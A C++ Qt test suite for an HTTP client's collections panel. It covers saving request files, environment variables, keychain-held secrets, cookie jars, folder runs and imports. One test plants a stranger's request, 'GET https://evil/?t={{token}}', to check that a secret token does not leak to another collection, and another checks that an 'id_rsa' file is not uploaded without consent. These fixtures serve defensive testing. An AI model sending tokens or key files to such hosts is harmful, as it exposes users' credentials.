// Collections as a person uses them: a folder is opened, a request chosen, changed, sent with the values of
// an environment, saved; other programs change files meanwhile; a folder is run; requests are imported.
#include <QAbstractItemView>
#include <QComboBox>
#include <QCompleter>
#include <QLabel>
#include <QPushButton>
#include <QTableWidget>
#include <QToolButton>
#include <QTreeView>
#include <QTreeWidget>
#include <QtTest/QtTest>

#include "tests/support/web_pane_test.h"
#include "tests/ui/panes/pictures.h"
#include "ui/panes/web/body_tab.h"
#include "ui/panes/web/collection/collection_panel.h"
#include "ui/panes/web/collection/environment_window.h"
#include "ui/panes/web/collection/keychain.h"
#include "ui/panes/web/collection/prompt_bar.h"
#include "ui/panes/web/collection/variable_help.h"
#include "ui/panes/web/cookie_model.h"
#include "ui/panes/web/cookies_tab.h"
#include "ui/panes/web/pairs_table.h"
#include "ui/panes/web/request_panel.h"
#include "ui/panes/web/sign_in_bar.h"
#include "ui/widgets/code_editor.h"

using namespace lw;
using namespace lw::ui;

class TestCollections : public lw::test::WebPaneTest {
  Q_OBJECT

  CollectionPanel& side() { return pane_->collections(); }
  QString place(const QString& name = {}) const { return folder_->filePath("c/" + name); }
  void write(const QString& name, const QByteArray& text) {
    QDir().mkpath(QFileInfo(place(name)).path());
    QFile file(place(name));
    QVERIFY(file.open(QIODevice::WriteOnly));
    file.write(text);
  }
  QByteArray contents(const QString& name) const {
    QFile file(place(name));
    return file.open(QIODevice::ReadOnly) ? file.readAll() : QByteArray("not there");
  }
  QStringList rows(const QModelIndex& parent = {}) {
    QStringList all;
    auto* model = side().tree().model();
    for (int i = 0; i < model->rowCount(parent); ++i) {
      all << model->index(i, 0, parent).data().toString();
      all << rows(model->index(i, 0, parent));
    }
    return all;
  }
  QModelIndex row(const QString& text) {
    auto* model = side().tree().model();
    return model->match(model->index(0, 0), Qt::DisplayRole, text, 1, Qt::MatchExactly | Qt::MatchRecursive)
        .value(0);
  }
  void choose(const QString& text) {
    QTRY_VERIFY(row(text).isValid());
    side().tree().setCurrentIndex(row(text));
    side().tree().setFocus();
  }
  void open(const QString& text, const QString& file) {
    choose(text);
    QTest::keyClick(&side().tree(), Qt::Key_Return);
    QTRY_COMPARE(side().opened(), file);
  }
  QString words_of(const char* name) {
    for (QLabel* label : side().findChildren<QLabel*>())
      if (label->accessibleName() == QLatin1String(name))
        return label->isVisible() ? label->text() : QString();
    return {};
  }
  QString bar_text() { return words_of("Remark on the collection"); }
  QString offer_text() { return words_of("Secrets of the collection"); }
  void choose_environment(const QString& name) {
    const int at = side().environment().findText(name);
    side().environment().setCurrentIndex(at);
    Q_EMIT side().environment().activated(at);
  }
  void environment(const QString& name) {
    QTRY_VERIFY(side().environment().findText(name) >= 0);
    Q_EMIT side().environment().activated(side().environment().findText(name));
  }
  /// The URL as it would be sent, or why it would not.
  QString filled(const QString& url) {
    RequestForm form;
    form.base.url = to_utf8(url);
    QString out;
    side().fill(form, [&out](const CollectionPanel::Filled& filled) {
      out = filled ? from_utf8(filled->base.url) : filled.error();
    });
    return out;
  }
  void press_bar(const QString& text) {
    for (QToolButton* button : side().findChildren<QToolButton*>())
      if (button->isVisible() && button->text() == text) return QTest::mouseClick(button, Qt::LeftButton);
    QFAIL("no such button");
  }

 private Q_SLOTS:
  void initTestCase() { QStandardPaths::setTestModeEnabled(true); }

  void init() {
    Keychain::instance().set_session_only(true);
    make_pane();
    server_->answer_text("/hello", "application/json", "{\"id\": 7}");
    server_->answer_text("/item/7", "text/plain", "seven");
    write("Hello.http", "# mine\n# @name hello\n# @assert $.id == 7\nGET {{base}}/hello\nAccept: */*\n");
    write("folder/two.http",
          "### Item\nGET {{base}}/item/{{hello.response.body.$.id}}\n\n### Gone\nGET {{base}}/gone\n");
    write("http-client.env.json", "{\"dev\": {\"base\": \"" + server_->url("").toUtf8() +
                                      "\"}, \"other\": {\"base\": \"http://localhost:1\"}}");
    for (auto* tabs : pane_->findChildren<QTabWidget*>())
      if (tabs->indexOf(&side()) >= 0) tabs->setCurrentWidget(&side());
    side().open_folder(place().chopped(1));
    QTRY_COMPARE(rows().size(), 5);
  }
  void cleanup() { remove_pane(); }

  void a_request_is_opened_changed_and_saved() {
    QCOMPARE(rows(), QStringList({"folder", "two", "GET  Item", "GET  Gone", "GET  Hello"}));
    open("GET  Hello", "Hello.http");
    QCOMPARE(pane_->url().text(), "{{base}}/hello");
    QVERIFY(!side().modified());
    pane_->url().setFocus();
    QTest::keyClick(&pane_->url(), Qt::Key_End);
    QTest::keyClicks(&pane_->url(), "?x=1");
    QVERIFY(side().modified());
    QTest::keyClick(&pane_->url(), Qt::Key_S, Qt::ControlModifier);
    QTRY_COMPARE(contents("Hello.http"),
                 "# mine\n# @name hello\n# @assert $.id == 7\nGET {{base}}/hello?x=1\nAccept: */*\n");
    QTRY_VERIFY(!side().modified());
  }

  void variables_are_filled_in_when_it_is_sent() {
    open("GET  Hello", "Hello.http");
    QTest::mouseClick(&pane_->send_button(), Qt::LeftButton);
    QTRY_VERIFY(pane_->hint().contains("{{base}}"));
    QVERIFY(server_->requests().isEmpty());
    choose_environment("dev");
    QTest::mouseClick(&pane_->send_button(), Qt::LeftButton);
    QTRY_VERIFY(!server_->requests().isEmpty() && !pane_->busy());
    QVERIFY(server_->requests()[0].startsWith("GET /hello HTTP/1.1"));
    // The next one uses what was answered.
    open("GET  Item", "folder/two.http");
    QTest::mouseClick(&pane_->send_button(), Qt::LeftButton);
    QTRY_COMPARE(server_->requests().size(), 2);
    QVERIFY(server_->requests()[1].startsWith("GET /item/7 "));
    QCOMPARE(pane_->url().text(), "{{base}}/item/{{hello.response.body.$.id}}");
  }

  void an_answer_belongs_to_the_request_that_asked() {
    environment("dev");
    write("Slow.http", "# @name slow\nGET {{base}}/slow\n");
    server_->answer("/slow", QByteArray());
    open("GET  Slow", "Slow.http");
    QTest::mouseClick(&pane_->send_button(), Qt::LeftButton);
    QTRY_COMPARE(server_->requests().size(), 1);
    open("GET  Hello", "Hello.http");
    server_->push("HTTP/1.1 200 OK\r\nContent-Length: 8\r\n\r\n{\"id\":9}");
    QTRY_VERIFY(!pane_->busy());
    QCOMPARE(filled("http://h/{{slow.response.body.$.id}}"), "http://h/9");
    QVERIFY(filled("http://h/{{hello.response.body.$.id}}").contains("can't be sent"));
  }

  void secrets_do_not_reach_the_file() {
    open("GET  Hello", "Hello.http");
    RequestForm form = pane_->form();
    form.base.auth = {.kind = http::AuthKind::basic, .user = "me", .password = "geheim"};
    pane_->show_form(form);
    side().save();
    QTRY_VERIFY(contents("Hello.http").contains("Authorization: Basic me {{password}}"));
    QVERIFY(!contents("Hello.http").contains("geheim"));
    QVERIFY(offer_text().contains("A file holds no secrets"));
    // No remark hides the offer.
    side().import_text("nonsense", "a test");
    QTRY_VERIFY(bar_text().contains("can't be imported"));
    QVERIFY(offer_text().contains("{{password}}"));
    press_bar("Keep in the keychain");
    QTRY_VERIFY(bar_text().contains("no keychain that answers"));
    QTRY_VERIFY(contents("http-client.env.json").contains("{{$keychain}}"));
    QVERIFY(!contents("http-client.env.json").contains("geheim"));
    QVERIFY(side().variable_tip("password").contains("••"));
  }

  void secrets_are_for_their_collection_and_environment() {
    write("http-client.env.json", "{\"dev\": {\"base\": \"" + server_->url("").toUtf8() +
                                      "\", \"token\": \"plain\"}, \"prod\": {\"token\": \"{{$keychain}}\"}}");
    Keychain::instance().write(place().chopped(1) + "#prod", "token", "geheim", [](bool) {});
    environment("prod");
    QTRY_COMPARE(filled("http://h/{{token}}"), "http://h/geheim");
    environment("dev");
    QCOMPARE(filled("http://h/{{token}}"), "http://h/plain");
    open("GET  Hello", "Hello.http");
    QTest::mouseClick(&pane_->send_button(), Qt::LeftButton);
    QTRY_COMPARE(filled("http://h/{{hello.response.body.$.id}}"), "http://h/7");
    environment("prod");
    QTRY_COMPARE(filled("http://h/{{token}}"), "http://h/geheim");
    QVERIFY(filled("http://h/{{hello.response.body.$.id}}").contains("can't be sent"));
    environment("dev");
    // A stranger's, with an environment of the same name.
    QDir().mkpath(folder_->filePath("stranger"));
    QFile file(folder_->filePath("stranger/a.http"));
    QVERIFY(file.open(QIODevice::WriteOnly));
    file.write("GET https://evil/?t={{token}}\n");
    file.close();
    environment("prod");
    side().open_folder(folder_->filePath("stranger"));
    QVERIFY(filled("http://h/{{token}}").contains("{{token}}"));
    QTRY_COMPARE(rows(), QStringList{"GET  a"});
    QVERIFY(filled("http://h/{{token}}").contains("{{token}}"));
    side().open_folder(place().chopped(1));
    environment("prod");
    QTRY_COMPARE(filled("http://h/{{token}}"), "http://h/geheim");
  }

  void secrets_of_switched_off_headers_do_not_reach_the_file() {
    open("GET  Hello", "Hello.http");
    RequestForm form = pane_->form();
    form.headers.push_back({false, "X-Api-Key", "geheim"});
    form.headers.push_back({false, "X-Off", "plain"});
    pane_->show_form(form);
    side().save();
    QTRY_VERIFY(contents("Hello.http").contains("# X-Off: plain"));
    QVERIFY(contents("Hello.http").contains("# X-Api-Key: {{x_api_key}}"));
    QVERIFY(!contents("Hello.http").contains("geheim"));
    QCOMPARE(filled("http://h/{{x_api_key}}"), "http://h/geheim");
  }

  void files_from_elsewhere_are_sent_only_when_the_user_says_so() {
    environment("dev");
    QFile secret(folder_->filePath("id_rsa"));
    QVERIFY(secret.open(QIODevice::WriteOnly));
    secret.write("geheim");
    secret.close();
    write("in.txt", "to {{base}}");
    QVERIFY(QFile::link(secret.fileName(), place("link.txt")));
    write("Absolute.http", "POST {{base}}/up\n\n< " + secret.fileName().toUtf8() + "\n");
    write("Link.http", "POST {{base}}/up\n\n< link.txt\n");
    write("Fill.http", "POST {{base}}/up\n\n<@ in.txt\n");
    for (const char* name : {"Absolute", "Link"}) {
      open("POST  " + QString(name), QString(name) + ".http");
      QTest::mouseClick(&pane_->send_button(), Qt::LeftButton);
      QTRY_VERIFY2(pane_->hint().contains("outside"), qPrintable(pane_->hint()));
      QVERIFY(server_->requests().isEmpty());
    }
    QVERIFY(lw::test::take_pictures(*pane_, "collections-allow"));
    press_bar("Allow");
    QTest::mouseClick(&pane_->send_button(), Qt::LeftButton);
    QTRY_VERIFY(!server_->requests().isEmpty() && !pane_->busy());
    QVERIFY(server_->requests().last().endsWith("geheim"));
    // What the user chooses himself may lie anywhere, also after it was saved.
    open("POST  Fill", "Fill.http");
    QTest::mouseClick(&pane_->send_button(), Qt::LeftButton);
    QTRY_VERIFY(server_->requests().size() == 2 && !pane_->busy());
    QVERIFY2(server_->requests().last().endsWith("to " + server_->url("").toUtf8()),
             server_->requests().last());
    RequestForm form = pane_->form();
    form.body_file = secret.fileName();
    pane_->show_form(form);
    side().save();
    QTRY_VERIFY(contents("Fill.http").contains("id_rsa"));
    QTRY_VERIFY(!side().modified());
    QTest::mouseClick(&pane_->send_button(), Qt::LeftButton);
    QTRY_VERIFY(server_->requests().size() == 3 && !pane_->busy());
    QVERIFY(server_->requests().last().endsWith("geheim"));
  }

  void what_was_written_is_not_taken_for_the_file_opened_meanwhile() {
    open("GET  Hello", "Hello.http");
    pane_->url().setText("{{base}}/changed");
    side().open_request("folder/two.http", 0);
    side().save();  // of Hello: the other one is still being read
    QTRY_COMPARE(side().opened(), "folder/two.http");
    QTRY_VERIFY(contents("Hello.http").contains("/changed"));
    QTRY_VERIFY(pane_->url().text().contains("/item/"));
    pane_->url().setText("{{base}}/mine");
    side().save();
    QTRY_VERIFY(contents("folder/two.http").contains("/mine"));
    QVERIFY(contents("folder/two.http").contains("### Gone"));
  }

  void writes_keep_their_order() {
    int written = 0;
    for (int i = 1; i <= 50; ++i)
      side().store().write(
          "Hello.http", "Hello.http", "GET http://h/" + std::to_string(i) + "\n", nullptr,
          [&written](bool, const QString& problem) { written += problem.isEmpty() ? 1 : 0; });
    QTRY_COMPARE(written, 50);
    QCOMPARE(contents("Hello.http"), "GET http://h/50\n");
  }

  void undoing_what_was_not_done_takes_nothing_away() {
    write("Mine.http", "GET http://mine\n");
    auto& store = side().store();
    store.create("Mine.http", "GET http://other\n");
    store.move("Hello.http", "Mine.http");
    store.create_folder("folder");
    QTRY_VERIFY(!bar_text().isEmpty());
    for (int i = 0; i < 3; ++i) store.undo().undo();
    store.create_folder("mark");
    QTRY_VERIFY(QDir(place("mark")).exists());
    QCOMPARE(contents("Mine.http"), "GET http://mine\n");
    QVERIFY(QFile::exists(place("Hello.http")));
    QVERIFY(QDir(place("folder")).exists());
  }

  void a_run_shows_where_one_signs_in() {
    write(
        "In.http",
        "# @options {\"auth\":{\"kind\":\"oauth2\",\"oauth\":{\"authorization_url\":\"http://login.test/in\","
        "\"token_url\":\"http://login.test/token\",\"client_id\":\"me\"}}}\nGET http://localhost:1/\n");
    QTRY_VERIFY(row("GET  In").isValid());
    side().run("In.http");
    auto* bar = pane_->findChild<SignInBar*>();
    QVERIFY(bar);
    QTRY_VERIFY(bar->url().startsWith("http://login.test/in?"));
    QVERIFY(bar->isVisible());
    Q_EMIT bar->cancelled();
    QTRY_VERIFY(bar_text().contains("0 of 1 passed"));
    QVERIFY(!bar->isVisible());
  }

  void another_programs_change_is_a_conflict() {
    open("GET  Hello", "Hello.http");
    write("Hello.http", "GET {{base}}/other\n");
    pane_->url().setText("{{base}}/mine");
    side().save();
    QTRY_VERIFY(bar_text().contains("changed by another program"));
    QCOMPARE(contents("Hello.http"), "GET {{base}}/other\n");
    press_bar("Overwrite");
    QTRY_VERIFY(contents("Hello.http").contains("/mine"));
    // And a new file is seen by itself.
    write("New.http", "GET {{base}}/new\n");
    QTRY_VERIFY(row("GET  New").isValid());
  }

  void files_are_made_renamed_copied_and_deleted_with_a_way_back() {
    pane_->url().setText("http://h/new");
    choose("folder");
    QTest::keyClick(&side().tree(), Qt::Key_N, Qt::ControlModifier);
    QTRY_VERIFY(contents("folder/New request.http").contains("GET http://h/new\n"));
    choose("GET  Hello");
    QTest::keyClick(&side().tree(), Qt::Key_D, Qt::ControlModifier);
    QTRY_VERIFY(contents("Hello copy.http").contains("{{base}}/hello"));
    choose("GET  Hello copy");
    side().tree().model()->setData(side().tree().currentIndex(), "Renamed");
    QTRY_VERIFY(QFile::exists(place("Renamed.http")));
    QVERIFY(!QFile::exists(place("Hello copy.http")));
    choose("GET  Renamed");
    QTest::keyClick(&side().tree(), Qt::Key_Delete);
    QTRY_VERIFY(!QFile::exists(place("Renamed.http")));
    press_bar("Undo");
    QTRY_VERIFY(QFile::exists(place("Renamed.http")));
    side().store().undo().undo();
    QTRY_VERIFY(QFile::exists(place("Hello copy.http")));
  }

  void the_filter_follows_as_one_types() {
    QTest::keyClicks(&side().filter(), "gon");
    QCOMPARE(rows(), QStringList({"folder", "two", "GET  Gone"}));
    side().filter().clear();
    QCOMPARE(rows().size(), 5);
  }

  void names_of_variables_are_offered() {
    choose_environment("dev");
    auto* help = pane_->findChild<VariableHelp*>();
    QVERIFY(help);
    pane_->url().setFocus();
    pane_->url().clear();
    QTest::keyClicks(&pane_->url(), "{{ba");
    QTRY_VERIFY(help->completer().popup()->isVisible());
    QTest::keyClick(help->completer().popup(), Qt::Key_Down);
    QTest::keyClick(help->completer().popup(), Qt::Key_Return);
    QCOMPARE(pane_->url().text(), "{{base}}");
    QVERIFY(side().variable_tip("base").contains(server_->url("")));
  }

  void names_are_offered_in_the_body_too() {
    choose_environment("dev");
    auto* help = pane_->findChild<VariableHelp*>();
    auto& body = pane_->request().body();
    pane_->request().setCurrentWidget(&body);
    auto* kind = body.findChild<QComboBox*>();
    kind->setFocus();
    QTest::keyClick(kind, Qt::Key_Down);  // JSON
    body.editor()->setFocus();
    QTest::keyClicks(body.editor()->input(), "{\"a\": \"{{bas");
    QTRY_VERIFY(help->completer().popup()->isVisible());
    // With what it stands for.
    QVERIFY(help->completer().popup()->model()->index(0, 0).data().toString().contains(server_->url("")));
    QTest::keyClick(help->completer().popup(), Qt::Key_Return);
    QCOMPARE(body.editor()->text(), "{\"a\": \"{{base}}");
    QTest::keyClicks(body.editor()->input(), "\"}");
    QVERIFY(!help->completer().popup()->isVisible());
    QCOMPARE(body.editor()->text(), "{\"a\": \"{{base}}\"}");
  }

  void names_are_offered_in_the_table_of_headers() {
    choose_environment("dev");
    auto* help = pane_->findChild<VariableHelp*>();
    auto& headers = pane_->request().headers();
    pane_->request().setCurrentWidget(&headers);
    headers.model().set_rows({{true, "X-Base", ""}});
    const QModelIndex cell = headers.model().index(0, PairsModel::kValue);
    headers.view()->setFocus();
    headers.view()->setCurrentIndex(cell);
    headers.view()->edit(cell);
    auto* field = headers.view()->findChild<QLineEdit*>();
    QVERIFY(field);
    QTest::keyClicks(field, "at {{bas");
    QTRY_VERIFY(help->completer().popup()->isVisible());
    QTest::keyClick(help->completer().popup(), Qt::Key_Return);
    QCOMPARE(field->text(), "at {{base}}");
    QTest::keyClick(field, Qt::Key_Return);
    QCOMPARE(headers.model().rows()[0].value, "at {{base}}");
  }

  void secrets_are_bullets_where_names_are_offered() {
    open("GET  Hello", "Hello.http");
    RequestForm form = pane_->form();
    form.base.auth = {.kind = http::AuthKind::basic, .user = "me", .password = "geheim"};
    pane_->show_form(form);
    side().save();
    QTRY_VERIFY(contents("Hello.http").contains("{{password}}"));
    QCOMPARE(side().variable_value("password"), "••••••");
  }

  void the_jar_follows_the_environment() {
    auto& cookies = pane_->request().cookies();
    QCOMPARE(cookies.jar(), "default");
    server_->answer_text("/hello", "text/plain", "x", "Set-Cookie: who=dev; Max-Age=1000\r\n");
    choose_environment("dev");
    QCOMPARE(cookies.jar(), "c dev");
    open("GET  Hello", "Hello.http");
    QCOMPARE(cookies.jar(), "c dev");
    QVERIFY(!side().modified());
    QTest::mouseClick(&pane_->send_button(), Qt::LeftButton);
    QTRY_VERIFY(!server_->requests().isEmpty() && !pane_->busy());
    pane_->request().setCurrentWidget(&cookies);
    QTRY_COMPARE(cookies.model().rowCount(), 1);
    QVERIFY2(cookies.said()->text().contains("“dev”"), qPrintable(cookies.said()->text()));
    // Another environment has another jar, in the editor and on the wire.
    choose_environment("other");
    QCOMPARE(cookies.jar(), "c other");
    QTRY_COMPARE(cookies.model().rowCount(), 0);
    pane_->url().setText(server_->url("/hello"));
    QTest::mouseClick(&pane_->send_button(), Qt::LeftButton);
    QTRY_COMPARE(server_->requests().size(), 2);
    QVERIFY(!server_->requests()[1].contains("Cookie:"));
    QTRY_VERIFY(!pane_->busy());
    choose_environment("dev");
    QTest::mouseClick(&pane_->send_button(), Qt::LeftButton);
    QTRY_COMPARE(server_->requests().size(), 3);
    QVERIFY(server_->requests()[2].contains("Cookie: who=dev"));
    choose_environment("No environment");
    QCOMPARE(cookies.jar(), "default");
  }

  void a_request_opens_in_a_tab_of_its_own() {
    std::unique_ptr<WebPane> other;
    connect(pane_, &Pane::twin_wanted, pane_, [&](const std::function<void(Pane&)>& fill) {
      other = std::make_unique<WebPane>(web::pane_type, *bridge_, nullptr);
      other->show();
      fill(*other);
    });
    choose_environment("dev");
    choose("GET  Item");
    QTest::keyClick(&side().tree(), Qt::Key_Return, Qt::ControlModifier);
    QVERIFY(other);
    QTRY_COMPARE(other->url().text(), "{{base}}/item/{{hello.response.body.$.id}}");
    QTRY_COMPARE(other->collections().environment().currentText(), "dev");
    QVERIFY(other->collections().isVisible());
    QCOMPARE(other->collections().opened(), "folder/two.http");
    // This one keeps what it had.
    QCOMPARE(side().opened(), QString());
  }

  void what_a_file_wants_asked_for_is_asked() {
    server_->answer_text("/hello?who=anna&otp=123456", "text/plain", "x");
    write("Ask.http", "# @prompt who Your name\n# @prompt otp\nGET {{base}}/hello?who={{who}}&otp={{otp}}\n");
    choose_environment("dev");
    open("GET  Ask", "Ask.http");
    QTest::mouseClick(&pane_->send_button(), Qt::LeftButton);
    PromptBar& bar = pane_->prompts();
    QTRY_VERIFY(bar.isVisible());
    QCOMPARE(bar.fields().size(), 2);
    QCOMPARE(bar.fields()[0]->accessibleName(), "Your name");
    QCOMPARE(bar.fields()[1]->echoMode(), QLineEdit::Password);
    // Nothing else stands still; Escape leaves it.
    QVERIFY(server_->requests().isEmpty() && !pane_->busy());
    QTest::keyClick(bar.fields()[0], Qt::Key_Escape);
    QVERIFY(!bar.isVisible());
    QTest::mouseClick(&pane_->send_button(), Qt::LeftButton);
    QTRY_VERIFY(bar.isVisible());
    QTest::keyClicks(bar.fields()[0], "anna");
    QTest::keyClick(bar.fields()[0], Qt::Key_Return);
    QTest::keyClicks(bar.fields()[1], "123456");
    QTest::keyClick(bar.fields()[1], Qt::Key_Return);
    QTRY_VERIFY(!server_->requests().isEmpty() && !pane_->busy());
    QVERIFY(server_->requests()[0].startsWith("GET /hello?who=anna&otp=123456 "));
    // The name is offered again, the secret is not; a run asks as well.
    side().run("Ask.http");
    QTRY_VERIFY(bar.isVisible());
    QCOMPARE(bar.fields()[0]->text(), "anna");
    QCOMPARE(bar.fields()[1]->text(), QString());
    QTest::keyClick(bar.fields()[0], Qt::Key_Return);
    QTest::keyClicks(bar.fields()[1], "123456");
    QTest::keyClick(bar.fields()[1], Qt::Key_Return);
    QTRY_VERIFY(bar_text().contains("1 of 1 passed"));
  }

  void a_folder_is_run() {
    choose_environment("dev");
    side().run(QString());
    QTRY_VERIFY(bar_text().contains("2 of 3 passed"));
    QCOMPARE(side().results().topLevelItemCount(), 3);
    QVERIFY(side().results().topLevelItem(2)->text(1).contains("404"));
    QCOMPARE(server_->requests().size(), 3);
    QVERIFY(pane_->session() != nullptr);
  }

  void requests_are_imported() {
    side().import_text(
        R"({"info": {"name": "Shop"}, "item": [{"name": "All", "request": {"method": "GET", "url": "{{base}}/all",
      "auth": {"type": "bearer", "bearer": [{"key": "token", "value": "geheim"}]}}}], "event": [{"listen": "test", "script": {"exec": ["x"]}}]})",
        "a test");
    QTRY_VERIFY(contents("Shop/All.http").contains("GET {{base}}/all"));
    QVERIFY(!contents("Shop/All.http").contains("geheim"));
    QTRY_VERIFY(bar_text().contains("test script"));
    side().import_text("nonsense", "a test");
    QTRY_VERIFY(bar_text().contains("can't be imported"));
  }

  void environments_are_edited() {
    choose_environment("dev");
    Q_EMIT side().environment().activated(side().environment().count() - 1);
    auto* window = side().findChild<EnvironmentWindow*>();
    QVERIFY(window && window->isVisible());
    QCOMPARE(window->names().currentText(), "dev");
    QTableWidget& table = window->table();
    const int last = table.rowCount() - 1;
    table.setCurrentCell(last, 0);
    table.item(last, 1)->setText("v1");
    table.item(last, 0)->setText("extra");
    table.setCurrentCell(0, 0);
    QTRY_VERIFY(contents("http-client.env.json").contains("\"extra\": \"v1\""));
    table.item(last, 2)->setCheckState(Qt::Checked);
    QTRY_VERIFY(contents("http-client.env.json").contains("\"extra\": \"{{$keychain}}\""));
    QVERIFY(contents("http-client.env.json").contains("\"other\""));
    QTRY_VERIFY(side().variable_tip("extra").contains("secret"));
  }

  void secrets_are_edited_without_a_trace_in_the_file() {
    environment("dev");
    Q_EMIT side().environment().activated(side().environment().count() - 1);
    auto* window = side().findChild<EnvironmentWindow*>();
    QVERIFY(window && window->isVisible());
    QTableWidget& table = window->table();
    const QString keys = place().chopped(1) + "#dev";
    const auto kept = [&keys](const QString& name) {
      QString value = "none";
      Keychain::instance().read(keys, name, [&value](const QString* found) {
        if (found != nullptr) value = *found;
      });
      return value;
    };
    // The name and the value are typed before it is ticked.
    int at = table.rowCount() - 1;
    table.setCurrentCell(at, 0);
    table.item(at, 0)->setText("pin");
    table.item(at, 1)->setText("geheim");
    QVERIFY(!std::ranges::any_of(side().store().own_environments(),
                                 [](const auto& one) { return one.values.contains("pin"); }));
    table.item(at, 2)->setCheckState(Qt::Checked);
    table.setCurrentCell(0, 0);
    QCOMPARE(kept("pin"), "geheim");
    QTRY_VERIFY(contents("http-client.env.json").contains("\"pin\": \"{{$keychain}}\""));
    // Another name takes its value along.
    table.setCurrentCell(at, 0);
    table.item(at, 0)->setText("code");
    table.setCurrentCell(0, 0);
    QCOMPARE(kept("code"), "geheim");
    QCOMPARE(kept("pin"), "none");
    QTRY_VERIFY(contents("http-client.env.json").contains("\"code\": \"{{$keychain}}\""));
    QVERIFY(!contents("http-client.env.json").contains("geheim"));
    QTRY_COMPARE(filled("http://h/{{code}}"), "http://h/geheim");
    // No secret any more: its value, and not its bullets.
    table.item(at, 2)->setCheckState(Qt::Unchecked);
    QCOMPARE(table.item(at, 1)->text(), "geheim");
    QTRY_VERIFY(contents("http-client.env.json").contains("\"code\": \"geheim\""));
    QCOMPARE(kept("code"), "none");
    // One that is not in the keychain stays what it is.
    write("http-client.env.json", "{\"dev\": {\"base\": \"b\", \"lost\": \"{{$keychain}}\"}}");
    QTRY_VERIFY(side().store().merged().secrets.contains("lost"));
    window->show_environment("dev");
    at = table.rowCount() - 2;
    QCOMPARE(table.item(at, 0)->text(), "lost");
    table.item(at, 2)->setCheckState(Qt::Unchecked);
    QCOMPARE(table.item(at, 2)->checkState(), Qt::Checked);
    QVERIFY(bar_text().contains("type it again"));
  }

  void pictures() {
    choose_environment("dev");
    open("GET  Hello", "Hello.http");
    side().run(QString());
    QTRY_VERIFY(bar_text().contains("passed"));
    QVERIFY(lw::test::take_pictures(*pane_, "collections"));
  }
};

QTEST_MAIN(TestCollections)
#include "test_collections.moc"
